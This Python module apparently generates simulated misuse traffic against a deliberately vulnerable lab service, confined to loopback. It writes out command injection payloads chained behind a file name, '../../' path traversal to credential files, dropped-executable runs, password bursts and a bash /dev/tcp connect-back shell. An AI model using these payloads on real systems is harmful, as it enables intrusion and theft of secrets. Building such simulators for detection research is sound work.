"""How the service's two weak places are misused.

Every act is harmless, stays in the laboratory's folder and on loopback.

A misuse visit is an ordinary plan of some kind with the act put in at a random place; after it half of them leave.
"""

import random
from urllib.parse import quote

from hostlab.clients import HABITS, Step, Visitor, plan, some_file
from hostlab.laboratory import PEOPLE

COMMANDS = (
    "id",
    "uname -a",
    "hostname",
    "env",
    "pwd",
    "ls -la home",
    "ls tmp",
    "df .",
    "date",
    "cat var/auth.log",
    "whoami",
)
ANSWER_SECONDS = 2


class NotDoneError(Exception):
    """The service did not do what the act wanted: this visit is no misuse and is left out."""


def inject(visitor: Visitor, line: str) -> bytes:
    """Runs `line` through the report job's unquoted field."""
    report = visitor.chance.choice(("words", "common", "first", "matches"))
    rest = visitor.chance.choice((" #", "; echo", f"; cat {some_file(visitor)}", f"; wc -c {some_file(visitor)}"))
    status, said = visitor.post("/job/report", report=report, file=f"{some_file(visitor)}; {line}{rest}", number="7")
    if status != 200:
        raise NotDoneError(f"the job answered {status}")
    return said


def stray_download(visitor: Visitor, path: str) -> None:
    """Reads a file outside the documents' folder through `..`."""
    status, _ = visitor.ask("GET", f"/download?name={quote('../../' + path, safe='')}")
    if status != 200:
        raise NotDoneError(f"{path} answered {status}")


def command_injection(visitor: Visitor) -> None:
    """Further commands, put behind the file's name."""
    for _ in range(visitor.chance.randint(1, 2)):
        inject(visitor, "; ".join(visitor.chance.sample(COMMANDS, visitor.chance.randint(2, 4))))
        visitor.think()


def shell_spawned(visitor: Visitor) -> None:
    """A shell that reads its commands from a pipe or from an uploaded file, with pauses between."""
    lines = visitor.chance.sample(COMMANDS, visitor.chance.randint(2, 5))
    script = "\n".join(f"{line}\nsleep 0.0{visitor.chance.randint(1, 5)}" for line in lines) + "\n"
    if visitor.chance.random() < 0.5:
        visitor.ask("PUT", "/upload/notes.txt", script.encode())
        inject(visitor, "sh < upload/notes.txt")
    else:
        inject(visitor, f"printf '{script}' | sh -s")


def bulk_read(visitor: Visitor) -> None:
    """The files of many people, one by one or by one command."""
    person = visitor.chance.choice(list(PEOPLE))
    if visitor.chance.random() < 0.4:
        for person in visitor.chance.sample(list(PEOPLE), visitor.chance.randint(2, 4)):
            for number in range(6):
                stray_download(visitor, f"home/{person}/note{number}.txt")
    else:
        inject(
            visitor,
            visitor.chance.choice(
                (
                    "cat home/*/*",
                    f"cat home/{person}/* data/docs/d1*",
                    "tar cf tmp/all.tar home data/items",
                    "grep -r river home",
                )
            ),
        )


def dropped_executable(visitor: Visitor) -> None:
    """An uploaded file is made executable and started: a script, or a copy of a system tool."""
    name = f"x{visitor.chance.randrange(10**6)}"
    visitor.ask("PUT", f"/upload/{name}", b"#!/bin/sh\nid\npwd\nls tmp\n")
    source = visitor.chance.choice((f"upload/{name}", "/usr/bin/id", "/usr/bin/uname"))
    inject(visitor, f"cp {source} tmp/{name}; chmod 700 tmp/{name}; tmp/{name}")


def credentials_read(visitor: Visitor) -> None:
    """One to three files of secrets (none is real)."""
    chosen = visitor.chance.sample(("credentials", "service.conf", "keys"), visitor.chance.randint(1, 3))
    if visitor.chance.random() < 0.5:
        for file in chosen:
            stray_download(visitor, f"etc/{file}")
    else:
        inject(visitor, "ls -la etc; cat " + " ".join(f"etc/{file}" for file in chosen))


def login_burst(visitor: Visitor) -> None:
    """Many guessed passwords without a pause."""
    for attempt in range(visitor.chance.randint(8, 30)):
        status, _ = visitor.post("/login", user=visitor.chance.choice(list(PEOPLE)), word=f"guess{attempt}")
        if status not in (401, 429):
            raise NotDoneError(f"a guessed password answered {status}")


def connect_back(visitor: Visitor) -> None:
    """The job connects out to a port that is no part of the service, where a listener answers, and tells it things."""
    stranger, word = visitor.lab.stranger, f"{visitor.user}-{visitor.chance.randrange(10**6)}"
    said = visitor.chance.sample(COMMANDS, visitor.chance.randint(1, 3))
    talk = " && ".join(f"echo {word} >&3 && read -t {ANSWER_SECONDS} x <&3 && {command} >&3" for command in said)
    inject(visitor, f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{stranger.port} && {talk}'")
    if word not in stranger.heard:
        raise NotDoneError("the listener heard nothing")


ACTS: dict[str, Step] = {
    "command_injection": command_injection,
    "shell_spawned": shell_spawned,
    "bulk_read": bulk_read,
    "dropped_executable": dropped_executable,
    "credentials_read": credentials_read,
    "login_burst": login_burst,
    "connect_back": connect_back,
}


def misuse_plan(act: str, chance: random.Random) -> tuple[str, list[Step]]:
    """The kind of visitor it looks like, and its steps: those of that kind, with the act among them."""
    kind = chance.choice(list(HABITS))
    steps = plan(kind, chance)
    place = chance.randint(0, len(steps))
    rest = steps[place:] if chance.random() < 0.5 else []
    return kind, [*steps[:place], ACTS[act], *rest]
